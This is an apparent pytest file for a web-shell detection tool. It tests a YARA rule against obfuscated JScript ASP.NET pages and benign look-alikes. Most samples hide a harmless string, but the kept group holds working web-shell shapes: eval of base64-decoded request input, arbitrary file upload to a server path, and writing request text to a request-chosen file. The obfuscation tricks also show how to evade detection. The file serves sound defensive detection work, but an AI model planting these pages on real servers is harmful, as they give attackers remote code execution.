"""Rules and kept findings from the tenth unseen collection, shells found on servers (issue 14, helper X12).

One shape the own rules missed on first sight (BENCHMARKS.md, "Unseen shells, tenth collection"): the
AntSword page captured on Exchange servers in the ProxyNotShell intrusions, a JScript ``eval`` of text
decoded from a base64 literal that is cut into fragments and glued back with ``char()`` of octal and hex
arithmetic - the request read exists only after decoding. ``EXT_WEBSHELL_JScript_Eval_Of_Encoded_Literal``
(``data/rules/hidden_eval_code.yar``) matches eval of code stored encoded in the page; the pages below
reproduce that shape (their hidden code is ``Response.Write("example")``) and the ordinary pages closest
to it. A second group keeps the found shapes that only one of our checks found on first sight. All of
them were written for these tests; none is a copy of a real shell.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from extriage.detections.webfiles import content

from .rule_tables import Page, RuleCase, page_hits, rule_tables

RULE = "EXT_WEBSHELL_JScript_Eval_Of_Encoded_Literal"

# base64 of 'Response.Write("example");' is UmVzcG9uc2UuV3JpdGUoImV4YW1wbGUiKTs=
_B64 = "UmVzcG9uc2UuV3JpdGUoImV4YW1wbGUiKTs="

SHELLS: list[Page] = [
    (
        "fragments-octal-hex-nested",
        ".aspx",
        '<%@Page Language="Jscript"%>\n'
        "<%eval(System.Text.Encoding.GetEncoding(936).GetString(System.Convert.FromBase64String("
        "'UmVzc'+'G9u'+char(0143-0)+'2UuV3'+char(0x94/2)+'pdGUo'"
        "+System.Text.Encoding.GetEncoding(936).GetString(System.Convert.FromBase64String('SQ=='))"
        "+'mV4YW1wbGUiKTs=')));%>",
    ),
    (
        "whole-literal-unsafe",
        ".aspx",
        '<%@ Page Language="JScript" %>\n'
        f'<% eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("{_B64}")), "unsafe"); %>',
    ),
    (
        "script-block-two-fragments",
        ".aspx",
        '<script runat="server" language="JScript">\nfunction Page_Load() {\n'
        "    eval(System.Text.Encoding.Default.GetString(System.Convert.FromBase64String("
        f"'{_B64[:18]}' + '{_B64[18:]}')));\n}}\n</script>",
    ),
    (
        "char-arithmetic-only",
        ".aspx",
        '<%@ Page Language="Jscript" %>\n<% eval(""'
        "+char(164/2)+char(202/2)+char(230/2)+char(224/2)+char(222/2)+char(220/2)+char(230/2)+char(202/2)"
        "+char(92/2)+char(174/2)+char(228/2)+char(210/2)+char(232/2)+char(202/2)+char(80/2)+char(98/2)"
        '+char(82/2), "un" + "safe"); %>',
    ),
    (
        "jscript-handler",
        ".ashx",
        '<%@ WebHandler Language="JScript" Class="ExampleHandler" %>\nimport System.Web;\n'
        "class ExampleHandler implements IHttpHandler {\n"
        "    function ProcessRequest(c : HttpContext) {\n"
        f'        eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("{_B64}")), "unsafe");\n'
        "    }\n    function get IsReusable() : Boolean { return false; }\n}",
    ),
]

ORDINARY: list[Page] = [
    (
        "decoded-literal-only-shown",
        ".aspx",
        '<%@ Page Language="JScript" %>\n'
        '<% Response.Write(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("SGVsbG8gd29ybGQ="))); %>',
    ),
    (
        "databinding-eval-and-image-literal",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        'byte[] Logo() { return Convert.FromBase64String("R0lGODlhAQABAAAAACw="); }\n</script>\n'
        '<asp:Repeater id="R" runat="server"><ItemTemplate><%# Eval("Name") %> '
        "<%# Eval(Convert.ToBase64String(Logo())) %></ItemTemplate></asp:Repeater>",
    ),
    (
        "jscript-eval-of-plain-arithmetic",
        ".aspx",
        '<%@ Page Language="JScript" %>\n<% var n = eval("2+3"); Response.Write(n); %>',
    ),
    (
        "browser-script-atob",
        ".aspx",
        '<%@ Page Language="C#" %>\n<html><body><script>\n'
        'eval(atob("YWxlcnQoMSk=")); var s = String.fromCharCode(72 - 0, 105 + 0);\n'
        "</script></body></html>",
    ),
    (
        "char-arithmetic-outside-eval",
        ".aspx",
        '<%@ Page Language="JScript" %>\n<% Response.Write(char(65+1)); var x = eval("1"); %>',
    ),
    (
        "decode-and-eval-in-separate-statements",
        ".aspx",
        '<%@ Page Language="JScript" %>\n'
        '<% var total = eval("4*5"); var img = System.Convert.FromBase64String("R0lGODlhAQABAAAAACw="); '
        "Response.BinaryWrite(img); %>",
    ),
]

CASES: list[RuleCase] = [(RULE, SHELLS, ORDINARY)]

test_shell_is_found, test_ordinary_page_is_not_flagged, test_rule_needs_a_server_page = rule_tables(CASES)


def test_statements_outside_a_server_page_are_not_a_page(
    tmp_path: Path, params: content.ContentParams
) -> None:
    """The same statement in a note without a JScript page directive, server script or code block is not a page
    (a code block alone is one: a site whose defaultLanguage is JScript compiles it, X49 session 20)."""
    note = SHELLS[1][2].replace('<%@ Page Language="JScript" %>\n', "").replace("<% ", "").replace(" %>", "")
    assert "<%" not in note and "eval(" in note
    hits = page_hits(tmp_path, "notes.txt", note, params)
    assert RULE not in {h["rule"] for h in hits if h["check"] == "yara"}


# --- found shapes only one of our checks saw on first sight: they must stay found ------------------------
KEPT: list[Page] = [
    (
        # behaviour only: eval of the request value decoded from base64 (a DFIR lab's dropped page)
        "eval-of-decoded-request",
        ".aspx",
        '<%@ Page Language="Jscript"%>\n'
        '<% eval(System.Text.Encoding.GetEncoding(936).GetString(System.Convert.FromBase64String(Request.Item["example"])),"unsafe"); %>',
    ),
    (
        # behaviour only: the request value returned by a local function, the option assembled from two
        # literals, and the CMS footer a publishing system appends to every page
        "eval-through-local-function-cms-footer",
        ".aspx",
        '<%@ Page Language="Jscript" Debug=true%>\r\n<%\r\nvar a=Request.Form("example");\r\n'
        'var b="unsa",c="fe",d=b+c;\r\nfunction fun()\r\n{\r\n return a;\r\n}\r\neval(fun(),d);\r\n%>\r\n'
        '<script src="/SiteFiles/example/tracker.js" type="text/javascript"></script>\r\n',
    ),
    (
        # our YARA only: an OAB ExternalUrl value that saves the first uploaded file to a fixed path
        "oab-url-upload-to-fixed-path",
        ".aspx",
        'http://x/<script Language="c#" runat="server">void Page_Load(object sender, EventArgs e)'
        '{if (Request.Files.Count!=0) { Request.Files[0].SaveAs(Server.MapPath("example.aspx"));}}</script>',
    ),
    (
        # both: an OAB ExternalUrl value writing request text to a request path
        "oab-url-streamwriter",
        ".aspx",
        'http://x/<script runat="server">protected void Page_Load(object sender, EventArgs\n'
        '    e){System.IO.StreamWriter sw = new System.IO.StreamWriter(Request.Form["p"] , false,\n'
        '    Encoding.Default);sw.Write(Request.Form["f"]);sw.Close();}</script>',
    ),
]


@pytest.mark.parametrize(("case", "ext", "page"), KEPT, ids=[k[0] for k in KEPT])
def test_found_shape_stays_found(
    tmp_path: Path, params: content.ContentParams, case: str, ext: str, page: str
) -> None:
    hits = page_hits(tmp_path, f"{case}{ext}", page, params)
    assert any(h["check"] in ("yara", "behaviour") for h in hits), case
